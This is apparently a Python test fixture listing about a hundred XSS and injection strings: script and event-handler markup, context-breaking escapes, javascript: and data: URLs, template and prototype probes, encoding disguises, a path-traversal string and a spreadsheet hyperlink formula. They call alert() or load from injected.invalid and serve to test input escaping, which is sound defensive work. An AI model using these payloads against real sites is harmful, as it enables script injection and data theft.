r"""Texts that would run, load or restyle something if a page took them for more than text.

Each tries one way out of the place it is put in: an element's text, an attribute, a script, a block
of JSON, a style sheet, an address, a template. Those that run call `alert`, those that load ask
`injected.invalid`.
"""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(2)</sCrIpT\t>",
    "<script src=//injected.invalid/3.js></script>",
    "<scr<script>ipt>alert(4)</scr</script>ipt>",
    "<img src=x onerror=alert(5)>",
    "<img/src='x'/onerror='alert(6)'>",
    "<img src=//injected.invalid/7.png>",
    '<IMG """><SCRIPT>alert(8)</SCRIPT>">',
    "<svg onload=alert(9)>",
    "<svg><script>alert&#40;10&#41;</script></svg>",
    "<svg><animate onbegin=alert(11) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(12)'><text y=20>press</text></a></svg>",
    (
        "<svg><foreignObject><iframe "
        "srcdoc='<script>alert(13)</script>'></iframe></foreignObject></svg>"
    ),
    (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
        "onerror=alert(14)&gt;'>"
    ),
    "<iframe src=javascript:alert(15)></iframe>",
    '<iframe srcdoc="&lt;script&gt;parent.alert(16)&lt;/script&gt;"></iframe>',
    "<object data='data:text/html,<script>alert(17)</script>'></object>",
    "<embed src=//injected.invalid/18.swf>",
    "<video autoplay><source onerror=alert(19)></video>",
    "<audio src=//injected.invalid/20.ogg autoplay onerror=alert(20)>",
    "<body onload=alert(21) onpageshow=alert(21)>",
    "<details open ontoggle=alert(22)><summary>open</summary></details>",
    "<input autofocus onfocus=alert(23)>",
    "<select autofocus onfocus=alert(24)><option>one</select>",
    "<textarea autofocus onfocus=alert(25)></textarea>",
    "<marquee onstart=alert(26)>moving</marquee>",
    "<div style='animation:spin 1s' onanimationstart=alert(27)>turning</div>",
    "<p popover id=pop onbeforetoggle=alert(28)>over</p><button popovertarget=pop>press</button>",
    "<form action=//injected.invalid/29><button autofocus>send</button></form>",
    "<form id=ak><input name=core><input name=source></form><a id=ak name=main></a>",
    "<base href=//injected.invalid/31/>",
    "<meta http-equiv=refresh content='0;url=//injected.invalid/32'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">",
    "<link rel=stylesheet href=//injected.invalid/34.css>",
    "<link rel=prefetch href=//injected.invalid/35><link rel=dns-prefetch href=//injected.invalid>",
    "<style>*{background:url(//injected.invalid/36)}</style>",
    "<style>@import '//injected.invalid/37.css';</style>",
    "<template><script>alert(38)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(38)>'>",
    "<x onclick=alert(39) tabindex=1 onfocus=alert(39) autofocus>an unknown element</x>",
)

ESCAPES = (
    "</script><script>alert(40)</script>",
    "</SCRIPT\n><svg/onload=alert(41)>",
    "<!--<script>alert(42)//--></script>",
    "--><script>alert(43)</script><!--",
    "<![CDATA[<script>alert(44)</script>]]>",
    "]]><script>alert(45)</script>",
    "</title></style></textarea></noscript></template><script>alert(46)</script>",
    "</pre></code></td></tr></table><img src=x onerror=alert(47)>",
    '" onmouseover="alert(48)" autofocus onfocus="alert(48)" x="',
    "' onmouseover='alert(49)' autofocus onfocus='alert(49)' x='",
    "` onmouseover=alert(50) autofocus onfocus=alert(50) `",
    "x onerror=alert(51) src=x tabindex=0",
    '"}]}</script><script>alert(52)</script>',
    '\\"};alert(53);//',
    "\\u003cscript\\u003ealert(54)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(55)\\x3e",
    "';alert(56)//\\';alert(56)//\";alert(56)//\\\";alert(56)//--></script>",
    "\u2028alert(57)\u2029//",
    "*/alert(58);/*",
    "}*{background:url(//injected.invalid/59)}a{",
    "red;background-image:url(//injected.invalid/60)",
    "expression(alert(61))",
)

ADDRESSES = (
    "javascript:alert(62)",
    "JaVaScRiPt:alert(63)",
    "java\tscript:alert(64)",
    "\x01javascript:alert(65)",
    "data:text/html,<script>alert(66)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg2Nyk8L3NjcmlwdD4=",
    "vbscript:msgbox(68)",
    "//injected.invalid/69",
    "https://injected.invalid/70?x=<script>alert(70)</script>",
    "../../../../etc/passwd",
    "#/run/<img src=x onerror=alert(72)>/0",
    "%3Cscript%3Ealert(73)%3C/script%3E",
    "a/b?c=d&e=f#g%2Fh%00i%",
)

TEMPLATES = (
    "{{constructor.constructor('alert(75)')()}}",
    "${alert(76)}",
    "#{alert(77)} <%= alert(77) %>",
    "{% raw %}{{ 78 }}{% endraw %} << config.secret >>",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "[object Object]",
    "NaN",
)

DISGUISES = (
    "&lt;script&gt;alert(85)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(86)&#x3C;/script&#x3E;",
    "&#60img src=x onerror=alert(87)&#62",
    "\uff1cscript\uff1ealert(88)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(89)+ADw-/script+AD4-",
    "<\u017fcript>alert(90)</\u017fcript>",
    "<img src=x onerror\x0c=\x0calert(91)>",
    "\u202e<script>alert(92)</script>\u202c",
    "\u200b<\u200bscript>alert(93)</script>",
    "<img src=x onerror=&#97;lert(94)>",
    "<a href=&#106;avascript:alert(95)>press</a>",
    '=HYPERLINK("//injected.invalid/96","press")',
    "\x1b]8;;https://injected.invalid/97\x1b\\press\x1b]8;;\x1b\\",
    "javascript:/*--></title></style></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(98)//'>",
)

INJECTIONS: tuple[str, ...] = (*MARKUP, *ESCAPES, *ADDRESSES, *TEMPLATES, *DISGUISES)
